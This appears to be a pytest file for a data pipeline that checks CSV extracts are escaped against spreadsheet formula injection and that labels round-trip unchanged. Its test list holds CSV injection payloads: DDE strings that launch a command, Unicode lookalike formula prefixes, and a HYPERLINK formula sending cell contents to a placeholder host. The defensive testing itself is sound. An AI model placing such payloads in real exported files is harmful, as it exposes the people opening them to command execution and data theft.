"""What an extract says is opened by people in a spreadsheet: no cell of ours is run there, and a label comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from wres_pipeline.extracts.outcomes import mapping_skeletons
from wres_pipeline.extracts.outcomes.label_checks import UnknownLabel
from wres_pipeline.reference.local import LocalMappings
from wres_pipeline.reference.spreadsheets import as_written, no_formula
from wres_pipeline.render.text import safe_cell

RUN = [
    "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0dA1", "\uff20A1", '=HYPERLINK("http://x.example?"&A1)',
]  # fmt: skip
"""As OWASP's page on CSV injection has them, and blanks that a program leaves out."""


@pytest.mark.parametrize("text", RUN)
def test_a_cell_that_a_spreadsheet_may_run_begins_with_an_apostrophe(text: str) -> None:
    assert no_formula(text) == f"'{text}" and as_written(no_formula(text)) == text
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["A White - British", "'tis", "", "Band 5", "O'Brien", "'"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert no_formula(text) == text == as_written(text)


def test_a_label_that_begins_like_a_formula_is_written_for_a_clerk_as_text_and_read_back_as_it_was(
    tmp_path: Path,
) -> None:
    label = UnknownLabel("ethnic_origin", "=White British", 3, "ethnic_labels.csv", (), "a code", 2)
    (path,) = mapping_skeletons.write(tmp_path, [label])
    assert mapping_skeletons.write(tmp_path, [label]) == {}, "it has its line already"
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][0] == "'=White British"
    path.write_text("label,means\n'=White British,A\n", encoding="utf-8")
    assert dict(LocalMappings.load(tmp_path).ethnic_labels) == {"=white british": "A"}
